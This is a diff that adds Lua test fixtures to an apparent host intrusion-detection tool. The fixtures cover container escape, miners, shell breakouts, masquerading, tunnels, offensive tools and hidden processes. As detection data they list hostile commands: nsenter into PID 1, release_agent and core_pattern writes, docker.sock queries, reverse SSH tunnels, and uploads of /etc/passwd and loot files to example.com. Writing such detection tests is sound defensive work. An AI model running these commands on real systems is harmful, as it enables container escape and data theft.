@@ -662,6 +662,358 @@ script("setuid-bit", {
   },
 })
 
+local function contained(args, fields)
+  local own = { container = "4f2a9c1b7d3e", cgroup = "/docker/4f2a9c1b7d3e", mnt_ns = 42 }
+  for key, value in pairs(fields or {}) do
+    own[key] = value
+  end
+  return function(host)
+    host:process { pid = 1, comm = "systemd", mnt_ns = 1 }
+    exec(args, own)(host)
+  end
+end
+
+script("container-escape", {
+  hits = {
+    ["nsenter into the first process"] = { exec { "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh" },
+      severity = "high" },
+    ["nsenter with long options"] = exec { "nsenter", "--target", "1", "--all" },
+    ["a mount of the host's disk"] = contained { "mount", "/dev/sda1", "/mnt" },
+    ["a control group's release_agent"] = sh "echo /cmd > /tmp/cgrp/release_agent",
+    ["core_pattern"] = sh "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
+    ["the engine's socket"] = exec { "curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/images/json" },
+    ["a privileged container"] = { exec { "docker", "run", "--rm", "--privileged", "alpine", "sh" },
+      says = "the host's rights" },
+    ["a container with the host's root"] = exec { "docker", "run", "-v", "/:/host", "alpine", "chroot", "/host" },
+    ["chroot into the host"] = contained { "chroot", "/host", "sh" },
+    ["a process of a container that is out"] = { contained({ "ls" }, { mnt_ns = 1 }),
+      says = "sees the host's file systems" },
+  },
+  misses = {
+    ["a process of a container"] = contained { "ls", "/" },
+    ["a process of the host"] = function(host)
+      host:process { pid = 1, comm = "systemd", mnt_ns = 1 }
+      exec({ "ls" }, { mnt_ns = 1 })(host)
+    end,
+    ["nsenter of another process"] = exec { "nsenter", "-t", "1234", "-n", "ss" },
+    ["an ordinary container"] = exec { "docker", "run", "--rm", "-v", "/srv/data:/data", "alpine" },
+    ["containers that are listed"] = exec { "docker", "ps" },
+    ["a mount on the host"] = exec { "mount", "/dev/sdb1", "/mnt" },
+    ["what is left out"] = { contained({ "ls" }, { mnt_ns = 1, cgroup = "/kubepods/agent" }),
+      options = { ignore = { "/agent" } } },
+  },
+})
+
+local function capable(hex)
+  return { answers = { status = { cap_eff = hex } }, tty = "pts/0" }
+end
+
+script("privileged-container-shell", {
+  hits = {
+    ["a shell with everything"] = { contained({ "bash" }, capable "000001ffffffffff"), severity = "high",
+      says = "all capabilities" },
+    ["one with CAP_SYS_ADMIN"] = { contained({ "sh" }, capable "00000000a82425fb"), says = "administer" },
+    ["one that is told something, when asked for"] = { contained({ "sh", "-c", "x" },
+      { answers = { status = { cap_eff = "000001ffffffffff" } } }), options = { all = true } },
+  },
+  misses = {
+    ["a shell of an ordinary container"] = contained({ "bash" }, capable "00000000a80425fb"),
+    ["a shell of the host"] = exec({ "bash" }, capable "000001ffffffffff"),
+    ["an entry point"] = contained({ "sh", "/entrypoint.sh" },
+      { answers = { status = { cap_eff = "000001ffffffffff" } } }),
+    ["one that cannot be asked"] = contained({ "bash" }, { tty = "pts/0" }),
+    ["another program"] = contained({ "node" }, capable "000001ffffffffff"),
+  },
+})
+
+-- A process that uses this part of a core, with these sockets, for two minutes.
+local function computes(exe, part, sockets, last)
+  return function(host)
+    local ev = exec({ exe }, { exe = exe, answers = { sockets = sockets } })(host)
+    local from = host.time
+    ev.answers.stat = function()
+      return { utime = (host.time - from) * part, stime = 0 }
+    end
+    host:advance(last or 120)
+  end
+end
+
+local pool = { { fd = 5, state = "established", remote_ip = "192.0.2.7", remote_port = 3333 } }
+
+script("crypto-miner", {
+  hits = {
+    ["the protocol of pools"] = { exec { "./x", "-o", "stratum+tcp://pool.example:3333", "-u", "4A", "-p", "x" },
+      severity = "high" },
+    ["its own options"] = exec { "x", "--donate-level=1", "--cpu-priority=5" },
+    ["a known miner"] = exec { "/opt/xmrig-6/xmrig" },
+    ["one that computes and has a pool's port"] = { computes("/tmp/.x/kworker", 1, pool), severity = "high",
+      says = "port 3333" },
+    ["one with another port"] = { computes("/dev/shm/a", 3.9, { { state = "established", remote_ip = "192.0.2.7",
+      remote_port = 443 } }), severity = "medium" },
+    ["one that is followed for a shorter time"] = { computes("/tmp/x", 1, pool, 12), options = { seconds = 10 } },
+  },
+  misses = {
+    ["one that pauses"] = computes("/tmp/x", 0.5, pool),
+    ["one without a connection"] = computes("/tmp/x", 1, {}),
+    ["one with a local connection"] = computes("/tmp/x", 1, { { state = "established", remote_ip = "127.0.0.1",
+      remote_port = 3333 } }),
+    ["a program of the system"] = computes("/usr/bin/ffmpeg", 2, pool),
+    ["one that ends before"] = computes("/tmp/x", 1, pool, 30),
+    ["a line that only names a port"] = exec { "curl", "http://h:3333/" },
+    ["more than are followed"] = { computes("/tmp/x", 1, pool), options = { most = 0 } },
+  },
+})
+
+script("shell-breakout", {
+  hits = {
+    ["awk"] = exec { "awk", 'BEGIN {system("/bin/sh &")}' },
+    ["a terminal by python"] = { exec { "python3", "-c", "import pty;pty.spawn('/bin/bash')" },
+      says = "gets a terminal" },
+    ["find"] = exec { "find", ".", "-exec", "/bin/sh", ";", "-quit" },
+    ["vim as root"] = { exec({ "vim", "-c", ":!/bin/sh" }, { euid = 0 }), severity = "high" },
+    ["tar"] = exec { "tar", "cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=/bin/sh" },
+    ["perl"] = exec { "perl", "-e", 'exec "/bin/sh";' },
+    ["emacs"] = exec { "emacs", "-Q", "-nw", "--eval", '(term "/bin/sh &")' },
+    ["busybox"] = exec { "busybox", "sh" },
+    ["a terminal by script"] = exec { "script", "-qc", "/bin/bash", "/dev/null" },
+  },
+  misses = {
+    ["awk at work"] = exec { "awk", "{print $1}", "/etc/shells" },
+    ["python that runs a command"] = exec { "python3", "-c", "import os; os.system('ls')" },
+    ["find that runs a script"] = exec { "find", ".", "-exec", "sh", "-c", "echo {}", ";" },
+    ["vim and a file"] = exec { "vim", "x.sh" },
+    ["tar at work"] = exec { "tar", "czf", "x.tgz", "bin/sh" },
+    ["busybox that runs a script"] = exec { "busybox", "sh", "/etc/init.d/x" },
+  },
+})
+
+script("masquerade", {
+  hits = {
+    ["a program that calls itself a kernel thread"] = { exec({ "[kworker/0:1]" }, { exe = "/home/u/x", comm = "x" }),
+      severity = "high" },
+    ["one that renames itself"] = function(host)
+      host:feed("comm", { pid = 9, id = "boot-9-9", comm = "kworker/u8:2", exe = "/usr/bin/perl", args = { "perl" },
+        was = { comm = "perl" },
+        parent = ancestors(host, { "bash" }) })
+    end,
+    ["a copy of crond"] = { exec { "/tmp/crond" }, severity = "high", says = "a service of the system" },
+    ["a name with a blank at its end"] = exec({ "./init " }, { exe = "/tmp/x/init " }),
+    ["a directory of dots"] = exec { "/home/u/.../sh", "-c", "echo" },
+    ["a picture that runs"] = { exec { "sh", "/home/u/image.png" }, severity = "medium" },
+    ["a document with two endings"] = exec { "/home/u/report.pdf.sh" },
+    ["a hidden directory"] = { exec { "/var/spool/.x/run" }, severity = "low" },
+  },
+  misses = {
+    ["a kernel thread"] = function(host)
+      host:feed("comm", { pid = 9, id = "boot-9-9", comm = "kworker/u8:2", was = { comm = "kworker/u8:1" },
+        parent = ancestors(host, { "kthreadd" }) })
+    end,
+    ["the system's cron"] = exec { "/usr/sbin/cron", "-f" },
+    ["nginx and its title"] = exec({ "nginx: worker process" }, { exe = "/usr/sbin/nginx" }),
+    ["a developer's program"] = exec { "/home/u/.cargo/bin/rg" },
+    ["a script that reads a picture"] = exec { "sh", "convert.sh", "image.png" },
+    ["a viewer"] = exec { "eog", "image.png" },
+    ["hidden directories when they are not asked for"] = { exec { "/var/spool/.x/run" }, options = { hidden = false } },
+  },
+})
+
+script("tunnels", {
+  hits = {
+    ["cloudflared"] = { exec { "cloudflared", "tunnel", "--url", "localhost:8080" }, severity = "medium" },
+    ["a tunnel of the editor"] = exec { "code", "tunnel", "--accept-server-license-terms" },
+    ["a port of the other side"] = { exec { "ssh", "-N", "-R", "9000:localhost:22", "u@h" }, severity = "low" },
+    ["an upload"] = { exec { "curl", "-F", "file=@/tmp/loot", "https://example.com/" }, says = "sends a file" },
+    ["a place where data is dropped"] = exec { "curl", "-s", "-X", "POST", "-d", "x", "https://paste.rs" },
+    ["wget that posts a file"] = exec { "wget", "--post-file=/etc/passwd", "https://example.com/" },
+    ["tor"] = exec { "systemctl", "start", "tor" },
+  },
+  misses = {
+    ["ssh"] = exec { "ssh", "-i", "key", "u@h", "ls -R" } and exec { "ssh", "u@h", "uptime" },
+    ["a download"] = exec { "curl", "-sSfL", "-o", "x", "https://example.com/x" },
+    ["a request to an interface"] = exec { "curl", "-H", "Accept: x", "https://example.com/api" },
+    ["an editor"] = exec { "code", "." },
+    ["a name"] = exec { "dig", "example.com" },
+    ["uploads when they are not asked for"] = { exec { "curl", "-T", "x", "https://h/" },
+      options = { uploads = false } },
+  },
+})
+
+script("offensive-tools", {
+  hits = {
+    ["a scan"] = { exec { "nmap", "-sS", "192.168.1.0/24" }, severity = "medium" },
+    ["a script that looks for ways up"] = { exec { "bash", "/home/u/LinEnum.sh" }, severity = "high" },
+    ["a password guesser"] = exec { "hydra", "-l", "root", "ssh://h" },
+    ["a sniffer"] = exec { "tcpdump", "-c", "5", "-nnni", "ens33" },
+    ["a picture of the screen"] = exec { "import", "-window", "root", "/tmp/x.png" },
+    ["a tool that one adds"] = { exec { "mytool" }, options = { tools = { "mytool" } } },
+  },
+  misses = {
+    ["a file of that name"] = exec { "cat", "nmap" },
+    ["import of another kind"] = exec { "import", "x" },
+    ["sniffers when they are not asked for"] = { exec { "tcpdump", "-i", "lo" }, options = { sniff = false } },
+    ["what is left out"] = { exec { "nmap", "-p", "80", "lab" }, options = { ignore = { " lab" } } },
+    ["ping"] = exec { "ping", "-c", "1", "h" },
+  },
+})
+
+local function build(fields)
+  return function(host)
+    local shell = ancestors(host, { "bash" })
+    local make = host:process { comm = fields.root or "make", args = { fields.root or "make", "-j4" },
+      parent = shell, uid = 1, sid = 1 }
+    for i = 1, 3 do
+      local sub = host:process { comm = "make", args = { "make", "-C", "sub" }, parent = make }
+      local gcc = host:process { comm = "cc1", exe = "/usr/lib/gcc/cc1", args = { "cc1", "file" .. i .. ".c" },
+        parent = sub }
+      host:exit(gcc, { code = 0, cpu_user = fields.cpu or i, cpu_system = 0.5, duration = 4, max_rss = 5e7 })
+      host:exit(sub, { code = 0, cpu_user = 0.1, duration = 5 })
+    end
+    if not fields.runs_on then
+      host:exit(make, { code = 0, cpu_user = 0.1, cpu_system = 0, duration = 9 })
+    end
+  end
+end
+
+script("build-cost", {
+  hits = {
+    ["a build, its submakes included"] = { build {},
+      says = "7.9 s cpu in 9.0 s, 7 processes, largest 50 MB: make -j4" },
+    ["what took the most"] = { build {}, says = "3.50 s  cc1 file3.c" },
+    ["a build of one's own"] = { build { root = "buildit" }, options = { roots = { "buildit" } } },
+  },
+  misses = {
+    ["a cheap build"] = { build { cpu = 0.01 }, options = { least = 5 } },
+    ["a build that runs on"] = build { runs_on = true },
+    ["what is no build"] = function(host)
+      host:exit(host:process { comm = "cc1", args = { "cc1" }, parent = ancestors(host, { "bash" }) },
+        { cpu_user = 99 })
+    end,
+  },
+})
+
+local function ran(args, fields)
+  return function(host)
+    host:exit(host:process { args = args, exe = "/usr/bin/" .. args[1], parent = ancestors(host, { fields.under
+      or "bash" }) }, fields)
+    host:finish()
+  end
+end
+
+script("slow-commands", {
+  hits = {
+    ["a command of two seconds"] = { ran({ "rsync", "-a", "x", "y" }, { duration = 2, cpu_user = 0.5 }),
+      says = "rsync -a x y" },
+    ["its program at the end"] = { ran({ "rsync" }, { duration = 2 }), says = "2.00 s in 1, longest 2.00 s" },
+    ["what is below a program"] = { ran({ "apt" }, { duration = 2, under = "dpkg" }),
+      options = { under = { "dpkg" } } },
+  },
+  misses = {
+    ["a quick one"] = ran({ "ls" }, { duration = 0.1 }),
+    ["one that waits, when it is about computing"] = { ran({ "rsync" }, { duration = 9, cpu_user = 0.1 }),
+      options = { cpu = 1 } },
+    ["a service"] = ran({ "served" }, { duration = 1e6 }),
+    ["what is left out"] = { ran({ "x" }, { duration = 9 }), options = { ignore = { "x" } } },
+    ["what is not below the program"] = { ran({ "x" }, { duration = 9 }), options = { under = { "dpkg" } } },
+  },
+})
+
+local function listens(port, fields)
+  fields = fields or {}
+  local answer = { sockets = { { fd = 3, family = "inet", type = "tcp", state = fields.state or "listen",
+    local_ip = fields.ip or "0.0.0.0",
+    local_port = port } } }
+  return function(host)
+    local exe = fields.exe or "/usr/bin/served"
+    if fields.before then
+      host:process { comm = "served", exe = exe, args = { exe }, answers = answer, parent = ancestors(host,
+        { "init" }) }
+    end
+    host:advance(0.1)
+    if not fields.later then
+      host:exec(ancestors(host, { "init" }), { exe }, { exe = exe, answers = answer })
+      host:advance(fields.ends and 0 or 1)
+    else
+      local process = host:process { comm = "served", exe = exe, args = { exe }, parent = ancestors(host, { "init" }) }
+      host:advance(100)
+      process.answers = answer
+      host:advance(100)
+    end
+  end
+end
+
+script("new-listeners", {
+  hits = {
+    ["a new server"] = { listens(8080), severity = "medium", says = "port 8080" },
+    ["one on the host alone"] = { listens(8080, { ip = "127.0.0.1" }), severity = "low" },
+    ["one from /tmp"] = { listens(8080, { exe = "/tmp/x" }), severity = "high" },
+    ["one that begins later"] = listens(8080, { later = true }),
+    ["a port of a range, when asked for"] = { listens(40000), options = { ephemeral = true } },
+  },
+  misses = {
+    ["what listened before"] = listens(80, { before = true }),
+    ["a connection"] = listens(80, { state = "established" }),
+    ["a port of a range"] = listens(40000),
+    ["what is left out"] = { listens(80), options = { ignore = { "served" } } },
+  },
+})
+
+local function shown(answer, ends)
+  return function(host)
+    local process = host:process { comm = "x", args = { "x" }, answers = { stat = answer }, parent = ancestors(host,
+      { "bash" }) }
+    for pid, other in pairs(host.alive) do
+      if pid ~= process.pid then
+        other.answers = { stat = { ppid = 1 } }
+      end
+    end
+    host:advance(31)
+    if ends then
+      host:exit(process)
+    end
+    host:advance(5)
+  end
+end
+
+script("hidden-process", {
+  hits = {
+    ["a process that /proc does not show"] = { shown(function() return nil, "gone" end), severity = "critical" },
+    ["a mount over a process"] = { exec { "mount", "-B", "/proc/1", "/proc/4711" }, severity = "high" },
+    ["hidepid"] = exec { "mount", "-o", "remount,rw,hidepid=2", "/proc" },
+    ["a signal of rootkits"] = exec { "kill", "-31", "4711" },
+  },
+  misses = {
+    ["one that is shown"] = shown { ppid = 1 },
+    ["one that ended meanwhile"] = shown(function() return nil, "gone" end, true),
+    ["a question without an answer"] = shown(function() return nil, "no answer in time" end),
+    ["another mount"] = exec { "mount", "-B", "/srv", "/proc-x/1" },
+    ["another signal"] = exec { "kill", "-9", "31" },
+    ["signals when they are not asked for"] = { exec { "kill", "-31", "1" }, options = { signals = false } },
+  },
+})
+
+local function first_and_then(first, days, second, fields)
+  return function(host)
+    exec({ first })(host)
+    host:advance(days * 86400)
+    exec({ second }, fields)(host)
+  end
+end
+
+script("first-seen", {
+  hits = {
+    ["a new program after a week"] = { first_and_then("ls", 8, "nmap"), severity = "low", says = "/usr/bin/nmap" },
+    ["one at once when there is hardly anything to learn"] = { first_and_then("ls", 1, "nmap"),
+      options = { learn = "1ms" } },
+  },
+  misses = {
+    ["what is new while it learns"] = first_and_then("ls", 1, "nmap"),
+    ["what was there before"] = first_and_then("ls", 8, "ls"),
+    ["a package's"] = first_and_then("ls", 8, "new", { under = { "apt-get", "dpkg" } }),
+    ["a container's"] = first_and_then("ls", 8, "new", { container = "4f2a9c1b7d3e" }),
+    ["what is left out"] = { first_and_then("ls", 8, "new"), options = { ignore = { "/usr/bin/new" } } },
+  },
+})
+
 -- --- all of them ------------------------------------------------------------------------------------
 
 local scripts_table = require "scripts_table"
